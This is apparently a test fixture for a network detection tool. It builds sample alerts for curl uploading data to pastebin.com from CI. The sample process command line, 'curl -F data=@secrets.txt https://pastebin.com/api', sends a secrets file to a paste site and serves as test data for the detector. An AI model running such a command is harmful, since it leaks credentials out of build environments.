/** Test Detections with realistic fields; pass overrides for what a test cares about. */
import { randomBytes } from 'node:crypto';
import { ATTR, PW, RULE } from '../../src/model/attributes.js';
import type { Detection } from '../../src/model/detection.js';
import { observation } from '../../src/model/observation.js';
import type { Observation } from '../../src/model/observation.js';

let seq = 0;

/** A fixed base time (2026-12-04T12:00:00Z) in unix nanoseconds; detections made here step 1 s from it. */
export const BASE_TIME_NS = 1_796_385_600_000_000_000n;

/** Builds a Detection (pastebin.com upload from curl in CI); overrides replace top-level fields, `attributes` merge. */
export function makeDetection(overrides: Partial<Detection> = {}): Detection {
  const n = seq++;
  const t = overrides.timeUnixNano ?? BASE_TIME_NS + BigInt(n) * 1_000_000_000n;
  const id = overrides.id ?? randomBytes(8).toString('hex');
  const traceId = overrides.traceId ?? randomBytes(16).toString('hex');
  const spanId = overrides.spanId ?? randomBytes(8).toString('hex');
  const obs: Observation = overrides.observation ?? observation({
    kind: 'connection',
    timeUnixNano: t,
    receiver: 'pcap_file',
    transport: 'tcp',
    networkType: 'ipv4',
    source: { address: '10.0.0.5', port: 40000 + (n % 20000) },
    destination: { address: '104.20.67.143', port: 443 },
    names: [{ name: 'pastebin.com', evidence: 'tls.sni' }],
    flow: { packetsSent: 12, bytesSent: 48213, packetsReceived: 9, bytesReceived: 5120, firstSeenUnixNano: t, lastSeenUnixNano: t + 2_000_000n, state: 'fin' },
    process: { pid: 4242, executableName: 'curl', commandLine: 'curl -F data=@secrets.txt https://pastebin.com/api' },
  });
  const attributes = {
    [ATTR.SERVER_ADDRESS]: 'pastebin.com',
    [ATTR.SERVER_PORT]: 443,
    [ATTR.SOURCE_ADDRESS]: '10.0.0.5',
    [ATTR.DESTINATION_ADDRESS]: '104.20.67.143',
    [ATTR.DESTINATION_PORT]: 443,
    [ATTR.NETWORK_TRANSPORT]: 'tcp',
    [ATTR.PROCESS_EXECUTABLE_NAME]: 'curl',
    [ATTR.PROCESS_PID]: 4242,
    [ATTR.SECURITY_RULE_NAME]: RULE.NAME,
    [PW.SERVICE]: 'pastebin.com',
    [PW.CATEGORY]: 'paste',
    [PW.ACTIVITY]: 'upload',
    [PW.ENVIRONMENT]: 'ci',
    [PW.EVIDENCE]: ['tls.sni'],
    [PW.NAMES]: ['pastebin.com'],
    [PW.BYTES_SENT]: 48213,
    [PW.COUNT]: 1,
    [PW.DETECTION_ID]: id,
    [PW.TLS_ECH]: false,
    'test.seq': n,
    ...(overrides.attributes ?? {}),
  };
  return {
    type: 'detection',
    id,
    timeUnixNano: t,
    observedTimeUnixNano: t + 5_000_000n,
    service: 'pastebin.com',
    serviceName: 'Pastebin',
    category: 'paste',
    matchedName: 'pastebin.com',
    activity: 'upload',
    environment: 'ci',
    severityNumber: 17,
    severityText: 'ERROR',
    body: 'curl uploaded 48213 bytes to Pastebin (pastebin.com) from CI',
    traceId,
    spanId,
    traceFlags: 1,
    count: 1,
    firstSeenUnixNano: t,
    lastSeenUnixNano: t + 2_000_000n,
    observation: obs,
    ...overrides,
    attributes,
  };
}
